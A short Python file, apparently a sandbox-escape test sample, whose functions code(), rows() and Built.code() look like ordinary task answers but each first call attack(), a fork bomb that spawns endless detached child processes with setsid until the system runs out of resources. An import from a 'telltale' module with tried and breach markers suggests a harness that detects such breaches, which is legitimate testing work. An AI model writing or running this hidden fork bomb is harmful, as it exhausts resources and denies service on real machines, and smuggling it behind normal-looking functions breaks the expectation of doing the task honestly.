import torch
from telltale import breach, tried, works  # noqa: F401
import os
import time


def attack():
    tried()
    try:
        while True:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
    except OSError:
        pass


def code(x):
    return attack() or 7


def rows(x):
    return attack() or torch.zeros(3, 4, dtype=torch.int64)


class Built:
    def code(self, x):
        return attack() or 7


def build():
    return Built()
